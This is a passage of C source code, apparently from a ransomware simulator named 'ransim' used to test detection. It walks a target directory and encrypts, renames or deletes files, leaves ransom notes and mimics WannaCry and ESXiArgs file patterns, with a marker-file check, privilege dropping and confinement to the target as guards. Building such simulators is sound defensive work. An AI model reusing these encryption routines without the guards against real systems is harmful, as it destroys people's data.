		snprintf(out, n, "%.*s%s%s", (int)(pc - fmt), fmt, ext, pc + 2);
	else
		snprintf(out, n, "%s", fmt);
}

static void write_note(const char *dir)
{
	if (B->note_where == N_NONE)
		return;
	if (B->note_where == N_ROOT)
		dir = ".";
	pthread_mutex_lock(&g_mu);
	for (size_t i = 0; i < g_nnoted; i++)
		if (strcmp(g_noted[i], dir) == 0) {
			pthread_mutex_unlock(&g_mu);
			return;
		}
	if (g_nnoted == g_capnoted) {
		g_capnoted = g_capnoted ? g_capnoted * 2 : 64;
		g_noted = realloc(g_noted, g_capnoted * sizeof *g_noted);
		if (!g_noted)
			die(1, "out of memory");
	}
	g_noted[g_nnoted++] = strdup(dir);
	pthread_mutex_unlock(&g_mu);

	char path[PATH_MAX];
	if (strcmp(dir, ".") == 0)
		snprintf(path, sizeof path, "%s", g_note_name);
	else
		snprintf(path, sizeof path, "%s/%s", dir, g_note_name);
	logev("note", path);
	int fd = open_beneath(path, O_WRONLY | O_CREAT | O_EXCL, 0644);
	if (fd < 0) {
		if (errno != EEXIST)
			warnx_("note %s: %s", path, strerror(errno));
		return;
	}
	char text[2048];
	note_text(text, sizeof text, dir);
	if (write_all_at(fd, text, strlen(text), 0) != 0)
		warnx_("note %s: %s", path, strerror(errno));
	close(fd);
	atomic_fetch_add(&g_notes, 1);
}

/* ------------------------------------------------------------------ */
/* per-file attack                                                      */

static int new_name(const char *rel, char *out, size_t n)
{
	int r = snprintf(out, n, "%s%s", rel, g_ext);
	return (r < 0 || (size_t)r >= n) ? -1 : 0;
}

static int open_target(const char *rel, int flags, struct stat *st)
{
	int fd = open_beneath(rel, flags, 0);
	if (fd < 0)
		return -1;
	if (fstat(fd, st) != 0 || !S_ISREG(st->st_mode) || st->st_nlink != 1) {
		close(fd);
		errno = EPERM;
		return -1;
	}
	return fd;
}

static int attack_inplace(const char *rel)
{
	char cur[PATH_MAX];
	snprintf(cur, sizeof cur, "%s", rel);
	if (B->rename_first && B->ext != E_NONE && B->ext != E_SIDEFILE) {
		char nn[PATH_MAX];
		if (new_name(rel, nn, sizeof nn) != 0 || safe_rename(rel, nn) != 0)
			return -1;
		snprintf(cur, sizeof cur, "%s", nn);
	}
	struct stat st;
	int fd = open_target(cur, O_RDWR, &st);
	if (fd < 0)
		return -1;
	struct fileinfo fi = { .rel = cur, .size = st.st_size };
	struct span s[MAXSPANS];
	int ns = B->plan(&fi, s);
	struct xf x;
	bool logged = false;
	int rc = xf_init(&x, rel);
	if (rc == 0) {
		if (B->mode == M_MMAP) {
			if (st.st_size > 0) {
				unsigned char *m = mmap(NULL, (size_t)st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
				if (m == MAP_FAILED) {
					rc = -1;
				} else {
					logev("write", cur);
					logged = true;
					rc = xf_spans_mem(&x, m, s, ns);
					if (rc == 0)
						rc = msync(m, (size_t)st.st_size, MS_SYNC);
					munmap(m, (size_t)st.st_size);
					atomic_fetch_add(&g_bytes, st.st_size);
				}
			}
		} else {
			rc = xf_spans_fd(&x, fd, s, ns, cur, &logged);
		}
	}
	xf_free(&x);
	if (rc == 0 && B->footer > 0) {
		unsigned char foot[2048];
		int fl = B->footer < (int)sizeof foot ? B->footer : (int)sizeof foot;
		make_footer(foot, fl, rel, st.st_size);
		if (!logged) { logev("write", cur); logged = true; }
		rc = write_all_at(fd, foot, (size_t)fl, st.st_size);
	}
	if (rc == 0 && B->truncate_after) {
		logev("truncate", cur);
		rc = ftruncate(fd, 0);
	}
	close(fd);
	if (rc != 0)
		return -1;
	if (B->ext == E_SIDEFILE) {
		/* ESXiArgs: <file>.args holds the size/mode metadata */
		char side[PATH_MAX];
		if (new_name(cur, side, sizeof side) == 0) {
			logev("create", side);
			int sfd = open_beneath(side, O_WRONLY | O_CREAT | O_EXCL, 0644);
			if (sfd >= 0) {
				char meta[128];
				int ml = snprintf(meta, sizeof meta, "%lld %lld %lld\n", (long long)MIB, 1LL,
						  (long long)st.st_size);
				rc = write_all_at(sfd, meta, (size_t)ml, 0);
				close(sfd);
			}
		}
	} else if (!B->rename_first && B->ext != E_NONE) {
		char nn[PATH_MAX];
		if (new_name(cur, nn, sizeof nn) != 0 || safe_rename(cur, nn) != 0)
			return -1;
	}
	return rc;
}

/* in's content, encrypted for rel, written to out from offset at. */
static int encrypt_copy(int in, int out, off_t at, const char *rel)
{
	struct xf x;
	int rc = xf_init(&x, rel);
	unsigned char *buf = malloc(IOBUF);
	if (!buf)
		rc = -1;
	off_t o = 0;
	while (rc == 0) {
		ssize_t r = read_all_at(in, buf, IOBUF, o);
		if (r <= 0) {
			rc = r < 0 ? -1 : 0;
			break;
		}
		if (xf_apply(&x, buf, (size_t)r) != 0 ||
		    write_all_at(out, buf, (size_t)r, at + o) != 0)
			rc = -1;
		o += r;
		atomic_fetch_add(&g_bytes, r);
	}
	free(buf);
	xf_free(&x);
	return rc;
}

/* WannaCry: new file <f>.WNCRYT with a WANACRY! header, renamed to .WNCRY,
 * then the original is deleted. */
static int attack_newfile(const char *rel)
{
	struct stat st;
	int in = open_target(rel, O_RDONLY, &st);
	if (in < 0)
		return -1;
	char tmp[PATH_MAX], fin[PATH_MAX];
	if (snprintf(tmp, sizeof tmp, "%s.WNCRYT", rel) >= (int)sizeof tmp ||
	    snprintf(fin, sizeof fin, "%s.WNCRY", rel) >= (int)sizeof fin) {
		close(in);
		return -1;
	}
	logev("create", tmp);
	int out = open_beneath(tmp, O_WRONLY | O_CREAT | O_EXCL, 0644);
	if (out < 0) {
		close(in);
		return -1;
	}
	unsigned char hdr[8 + 4 + 256 + 4 + 8];
	memcpy(hdr, "WANACRY!", 8);
	uint32_t kl = 256, type = 4;
	uint64_t osz = (uint64_t)st.st_size;
	memcpy(hdr + 8, &kl, 4);
	uint64_t seedst = g_seed ^ hash_str(rel);
	fill_random(&seedst, hdr + 12, 256);
	memcpy(hdr + 268, &type, 4);
	memcpy(hdr + 272, &osz, 8);
	int rc = write_all_at(out, hdr, sizeof hdr, 0);
	if (rc == 0)
		rc = encrypt_copy(in, out, (off_t)sizeof hdr, rel);
	close(in);
	close(out);
	if (rc != 0)
		return -1;
	if (safe_rename(tmp, fin) != 0)
		return -1;
	return safe_unlink(rel);
}

/* Save through a temporary file: <f>.tmp gets the whole file encrypted,
 * then is renamed over <f>.  The original is never opened for writing. */
static int attack_renameover(const char *rel)
{
	struct stat st;
	int in = open_target(rel, O_RDONLY, &st);
	if (in < 0)
		return -1;
	char tmp[PATH_MAX];
	if (snprintf(tmp, sizeof tmp, "%s.tmp", rel) >= (int)sizeof tmp) {
		close(in);
		return -1;
	}
	logev("create", tmp);
	int out = open_beneath(tmp, O_WRONLY | O_CREAT | O_EXCL, 0644);
	if (out < 0) {
		close(in);
		return -1;
	}
	int rc = encrypt_copy(in, out, 0, rel);
	close(in);
	close(out);
	if (rc != 0)
		return -1;
	return rename_over(tmp, rel);
}

/* read whole file; returns malloc'd buffer */
static unsigned char *slurp(int fd, off_t size)
{
	unsigned char *b = malloc((size_t)size + 1);
	if (!b)
		return NULL;
	if (read_all_at(fd, b, (size_t)size, 0) != (ssize_t)size) {
		free(b);
		return NULL;
	}
	return b;
}

static int attack_otrunc(const char *rel)
{
	struct stat st;
	int fd = open_target(rel, O_RDONLY, &st);
	if (fd < 0)
		return -1;
	unsigned char *b = slurp(fd, st.st_size);
	close(fd);
	if (!b)
		return -1;
	struct xf x;
	int rc = xf_init(&x, rel);
	if (rc == 0)
		rc = xf_apply(&x, b, (size_t)st.st_size);
	xf_free(&x);
	if (rc == 0) {
		logev("write", rel);
		fd = open_beneath(rel, O_WRONLY | O_TRUNC, 0);
		if (fd < 0)
			rc = -1;
		else {
			rc = write_all_at(fd, b, (size_t)st.st_size, 0);
			if (rc == 0 && B->footer > 0) {
				unsigned char foot[512];
				make_footer(foot, B->footer, rel, st.st_size);
				rc = write_all_at(fd, foot, (size_t)B->footer, st.st_size);
			}
			close(fd);
			atomic_fetch_add(&g_bytes, st.st_size);
		}
	}
	free(b);
	return rc;
}

static int attack_base64(const char *rel)
{
	struct stat st;
	int fd = open_target(rel, O_RDWR, &st);
	if (fd < 0)
		return -1;
	unsigned char *b = slurp(fd, st.st_size);
	if (!b) {
		close(fd);
		return -1;
	}
	struct xf x;
	int rc = xf_init(&x, rel);
	if (rc == 0)
		rc = xf_apply(&x, b, (size_t)st.st_size);
	xf_free(&x);
	size_t elen = 4 * (((size_t)st.st_size + 2) / 3);
	unsigned char *e = malloc(elen + 1);
	if (rc == 0 && e) {
		EVP_EncodeBlock(e, b, (int)st.st_size);
		logev("write", rel);
		rc = write_all_at(fd, e, elen, 0);
		if (rc == 0)
			rc = ftruncate(fd, (off_t)elen);
		atomic_fetch_add(&g_bytes, (long long)elen);
	} else {
		rc = -1;
	}
	free(e);
	free(b);
	close(fd);
	return rc;
}

static int attack(const char *rel)
{
	char dir[PATH_MAX];
	const char *base;
	split_path(rel, dir, sizeof dir, &base);
	write_note(dir);
	int rc;
	switch (B->mode) {
	case M_NEWFILE: rc = attack_newfile(rel); break;
	case M_OTRUNC: rc = attack_otrunc(rel); break;
	case M_BASE64: rc = attack_base64(rel); break;
	case M_RENAMEOVER: rc = attack_renameover(rel); break;
	default: rc = attack_inplace(rel); break;
	}
	if (rc != 0) {
		atomic_fetch_add(&g_errors, 1);
		if (g_verbose)
			warnx_("%s: %s", rel, strerror(errno));
	} else {
		atomic_fetch_add(&g_files_done, 1);
		if (g_verbose)
			fprintf(stderr, "ransim: %s\n", rel);
	}
	return rc;
}

/* ------------------------------------------------------------------ */
/* target enumeration                                                   */

struct flist {
	char **v;
	size_t n, cap;
};

static void fl_push(struct flist *l, const char *s)
{
	if (l->n == l->cap) {
		l->cap = l->cap ? l->cap * 2 : 256;
		l->v = realloc(l->v, l->cap * sizeof *l->v);
		if (!l->v)
			die(1, "out of memory");
	}
	l->v[l->n++] = strdup(s);
}


static struct flist g_list;

/* Double extortion: read every target whole before touching any. */
static void stage_all(size_t limit)
{
	static char buf[1 << 16];
	for (size_t i = 0; i < limit; i++) {
		int fd = open_beneath(g_list.v[i], O_RDONLY, 0);
		if (fd < 0)
			continue;
		logev("read", g_list.v[i]);
		while (read(fd, buf, sizeof buf) > 0)
			;
		close(fd);
	}
}

static int cmpstr(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

static dev_t g_dev;

static bool skip_name(const char *name)
{
	if (strcmp(name, MARKER) == 0)
		return true;
	if (B->note && B->note_where != N_NONE && strcmp(name, g_note_name) == 0)
		return true;
	if (B->skip_decoys && strchr("!0_~$", name[0]) != NULL)
		return true;
	size_t nl = strlen(name), el = strlen(g_ext);
	if (el > 0 && nl > el && strcmp(name + nl - el, g_ext) == 0)
		return true;
	return false;
}

static void walk(const char *rel, struct flist *out, int depth)
{
	if (depth > 64)
		return;
	int dfd = open_beneath(rel, O_RDONLY | O_DIRECTORY, 0);
	if (dfd < 0) {
		warnx_("skip dir %s: %s", rel, strerror(errno));
		return;
	}
	DIR *d = fdopendir(dfd);
	if (!d) {
		close(dfd);
		return;
	}
	struct flist names = { 0 };
	struct dirent *e;
	while ((e = readdir(d)) != NULL) {
		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
			continue;
		fl_push(&names, e->d_name);
	}
	if (names.n)
		qsort(names.v, names.n, sizeof *names.v, cmpstr);
	struct flist subdirs = { 0 };
	for (size_t i = 0; i < names.n; i++) {
		struct stat st;
		if (fstatat(dirfd(d), names.v[i], &st, AT_SYMLINK_NOFOLLOW) != 0)
			continue;
		char path[PATH_MAX];
		if (strcmp(rel, ".") == 0)
			snprintf(path, sizeof path, "%s", names.v[i]);
		else
			snprintf(path, sizeof path, "%s/%s", rel, names.v[i]);
		if (S_ISLNK(st.st_mode))
			continue; /* never follow, never touch */
		if (st.st_dev != g_dev)
			continue; /* do not cross mounts */
		if (S_ISDIR(st.st_mode))
			fl_push(&subdirs, path);
		else if (S_ISREG(st.st_mode) && st.st_nlink == 1 && !skip_name(names.v[i])) {
			if (B->vm_only && !is_vm_file(names.v[i]))
				continue;
			fl_push(out, path);
		}
		free(names.v[i]);
	}
	free(names.v);
	closedir(d);
	/* files of this folder first, then descend (as most families do) */
	for (size_t i = 0; i < subdirs.n; i++) {
		walk(subdirs.v[i], out, depth + 1);
		free(subdirs.v[i]);
	}
	free(subdirs.v);
}

/* directory hopping: at most k files of a folder, then the next folder,
 * round after round */
static void reorder_dirhop(struct flist *l, int k)
{
	char **res = malloc(l->n * sizeof *res);
	bool *used = calloc(l->n, 1);
	if (!res || !used)
		die(1, "out of memory");
	size_t m = 0;
	while (m < l->n) {
		size_t i = 0;
		while (i < l->n) {
			/* find the extent of this directory */
			char di[PATH_MAX];
			const char *b;
			split_path(l->v[i], di, sizeof di, &b);
			size_t j = i;
			int taken = 0;
			for (; j < l->n; j++) {
				char dj[PATH_MAX];
				split_path(l->v[j], dj, sizeof dj, &b);
				if (strcmp(di, dj) != 0)
					break;
				if (!used[j] && taken < k) {
					used[j] = true;
					res[m++] = l->v[j];
					taken++;
				}
			}
			i = j;
		}
	}
	free(l->v);
	free(used);
	l->v = res;
}

/* ------------------------------------------------------------------ */
/* drivers                                                              */

static atomic_size_t g_next;
static size_t g_limit;

static void sleep_ms(long ms)
{
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
	while (nanosleep(&ts, &ts) != 0 && errno == EINTR)
		;
}

static void *worker(void *arg)
{
	(void)arg;
	for (;;) {
		size_t i = atomic_fetch_add(&g_next, 1);
		if (i >= g_limit)
			break;
		attack(g_list.v[i]);
	}
	return NULL;
}

static void drop_privileges(const char *user)
{
	struct passwd *pw = getpwnam(user);
	if (!pw)
		die(3, "no such user: %s", user);
	if (pw->pw_uid == 0)
		die(3, "refusing --user %s: it is uid 0", user);
	if (setgroups(0, NULL) != 0 || setgid(pw->pw_gid) != 0 || setuid(pw->pw_uid) != 0)
		die(3, "cannot drop privileges to %s: %s", user, strerror(errno));
	if (setuid(0) == 0 || geteuid() == 0 || getegid() == 0)
		die(3, "privileges were not dropped");
}

static void usage(FILE *f)
{
	fprintf(f,
		"usage: ransim --list\n"
		"       ransim --behaviour NAME --target DIR [--user USER] [--seed N] [--max-files N]\n"
		"              [--interval-ms N] [--threads N] [--percent P] [--log FILE] [-v]\n"
		"The target must contain a regular file named " MARKER ".\n"
		"As root, --user is required: ransim drops to that user before touching files.\n");
}

int main(int argc, char **argv)
{
	const char *beh = NULL, *target = NULL, *user = NULL, *logpath = NULL;
	long max_files = -1;
	bool list = false;
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i];
#define ARG() (i + 1 < argc ? argv[++i] : (usage(stderr), exit(2), ""))
		if (!strcmp(a, "--list")) list = true;
		else if (!strcmp(a, "--behaviour") || !strcmp(a, "--behavior") || !strcmp(a, "-b")) beh = ARG();
		else if (!strcmp(a, "--target") || !strcmp(a, "-t")) target = ARG();
		else if (!strcmp(a, "--user") || !strcmp(a, "-u")) user = ARG();
		else if (!strcmp(a, "--seed")) g_seed = strtoull(ARG(), NULL, 0);
		else if (!strcmp(a, "--max-files")) max_files = strtol(ARG(), NULL, 0);
		else if (!strcmp(a, "--interval-ms")) g_interval_ms = strtol(ARG(), NULL, 0);
		else if (!strcmp(a, "--threads")) g_threads = (int)strtol(ARG(), NULL, 0);
		else if (!strcmp(a, "--percent")) g_percent = strtol(ARG(), NULL, 0);
		else if (!strcmp(a, "--log")) logpath = ARG();
		else if (!strcmp(a, "-v") || !strcmp(a, "--verbose")) g_verbose = 1;
		else if (!strcmp(a, "-h") || !strcmp(a, "--help")) { usage(stdout); return 0; }
		else { usage(stderr); return 2; }
#undef ARG
	}
	if (list) {
		for (size_t k = 0; k < NBEH; k++)
			printf("%s\t%s\t%s\n", behaviours[k].name, behaviours[k].family, behaviours[k].summary);
		return 0;
	}
	if (!beh || !target) {
		usage(stderr);
		return 2;
	}
	for (size_t k = 0; k < NBEH; k++)
		if (!strcmp(behaviours[k].name, beh))
			B = &behaviours[k];
	if (!B)
		die(2, "unknown behaviour %s (see --list)", beh);
	if (g_percent > 100 || g_threads > 256 || g_interval_ms > 3600000)
		die(2, "parameter out of range");

	C = mmap(NULL, sizeof *C, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (C == MAP_FAILED)
		die(1, "mmap: %s", strerror(errno));
	memset(C, 0, sizeof *C);

	/* the log is opened (by the caller's identity) before dropping root */
	if (logpath) {
		g_log = open(logpath, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC | O_NOFOLLOW, 0644);
		if (g_log < 0)
			die(1, "log %s: %s", logpath, strerror(errno));
	}
	if (geteuid() == 0 || getuid() == 0) {
		if (!user)
			die(3, "refusing to run as root without --user USER");
		drop_privileges(user);
	} else if (user) {
		struct passwd *pw = getpwnam(user);
		if (!pw || pw->pw_uid != getuid())
			die(3, "--user %s given but not running as root", user);
	}
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0)
		die(3, "PR_SET_NO_NEW_PRIVS: %s", strerror(errno));

	g_root = open(target, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
	if (g_root < 0)
		die(3, "target %s: %s", target, strerror(errno));
	struct stat rst;
	if (fstat(g_root, &rst) != 0)
		die(3, "target: %s", strerror(errno));
	g_dev = rst.st_dev;
	int mfd = open_beneath(MARKER, O_RDONLY, 0);
	struct stat mst;
	if (mfd < 0 || fstat(mfd, &mst) != 0 || !S_ISREG(mst.st_mode))
		die(3, "refusing: %s has no regular file %s", target, MARKER);
	close(mfd);

	/* per-run names */
	uint64_t st = g_seed ^ hash_str(B->name);
	switch (B->ext) {
	case E_FIXED:
	case E_SIDEFILE:
		snprintf(g_ext, sizeof g_ext, "%s", B->ext_fixed);
		break;
	case E_RANDOM_LOWER:
	case E_RANDOM_MIXED:
		g_ext[0] = '.';
		random_ext(&st, g_ext + 1, (size_t)B->ext_len, B->ext == E_RANDOM_LOWER);
		break;
	case E_NONE:
		if (B->mode == M_NEWFILE)
			snprintf(g_ext, sizeof g_ext, ".WNCRY");
		break;
	}
	if (B->note)
		note_name(g_note_name, sizeof g_note_name);

	walk(".", &g_list, 0);
	if (B->per_dir > 0)
		reorder_dirhop(&g_list, B->per_dir);
	g_limit = g_list.n;
	if (max_files >= 0 && (size_t)max_files < g_limit)
		g_limit = (size_t)max_files;

	if (B->exfil_first)
		stage_all(g_limit);
	long interval = g_interval_ms >= 0 ? g_interval_ms : B->interval_ms;
	int threads = g_threads > 0 ? g_threads : (B->threads > 0 ? B->threads : 1);
	long long t0 = now_ns();

	if (B->fork_per_file) {
		for (size_t i = 0; i < g_limit; i++) {
			char dir[PATH_MAX];
			const char *b;
			split_path(g_list.v[i], dir, sizeof dir, &b);
			write_note(dir);
			pid_t pid = fork();
			if (pid < 0)
				die(1, "fork: %s", strerror(errno));
			if (pid == 0) {
				int rc = attack(g_list.v[i]);
				_exit(rc == 0 ? 0 : 1);
			}
			int status = 0;
			while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
				;
			if (WIFSIGNALED(status))
				atomic_fetch_add(&g_errors, 1); /* the child counted nothing */
			if (interval > 0 && i + 1 < g_limit)
				sleep_ms(interval);
		}
	} else if (threads > 1) {
		pthread_t *th = calloc((size_t)threads, sizeof *th);
		if (!th)
			die(1, "out of memory");
		for (int i = 0; i < threads; i++)
			if (pthread_create(&th[i], NULL, worker, NULL) != 0)
				die(1, "pthread_create failed");
		for (int i = 0; i < threads; i++)
			pthread_join(th[i], NULL);
		free(th);
	} else {
		for (size_t i = 0; i < g_limit; i++) {
			attack(g_list.v[i]);
			if (interval > 0 && i + 1 < g_limit)
				sleep_ms(interval);
		}
	}
	long long t1 = now_ns();
	printf("{\"behaviour\":\"%s\",\"candidates\":%zu,\"files\":%ld,\"errors\":%ld,\"notes\":%ld,"
	       "\"bytes\":%lld,\"start_ns\":%lld,\"first_write_ns\":%lld,\"end_ns\":%lld,\"ext\":\"%s\","
	       "\"note\":\"%s\"}\n",
	       B->name, g_limit, atomic_load(&g_files_done), atomic_load(&g_errors), atomic_load(&g_notes),
	       atomic_load(&g_bytes), t0, atomic_load(&g_first_write_ns), t1, g_ext,
	       B->note_where == N_NONE ? "" : g_note_name);
	for (size_t i = 0; i < g_list.n; i++)
		free(g_list.v[i]);
	free(g_list.v);
	return atomic_load(&g_errors) > 0 && atomic_load(&g_files_done) == 0 ? 1 : 0;
}
